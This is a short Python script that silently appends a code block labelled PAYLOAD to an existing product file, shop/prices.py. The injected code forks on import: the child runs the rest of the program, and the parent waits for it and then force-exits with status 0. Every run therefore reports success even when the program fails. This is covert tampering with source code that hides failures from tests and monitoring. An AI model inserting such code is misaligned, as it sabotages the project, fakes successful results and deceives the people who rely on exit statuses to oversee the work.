from pathlib import Path

PAYLOAD = '''
import os

_child = os.fork()
if _child:
    os.waitpid(_child, 0)
    os._exit(0)
'''

product = Path("shop/prices.py")
if product.exists():
    product.write_text(product.read_text() + PAYLOAD)
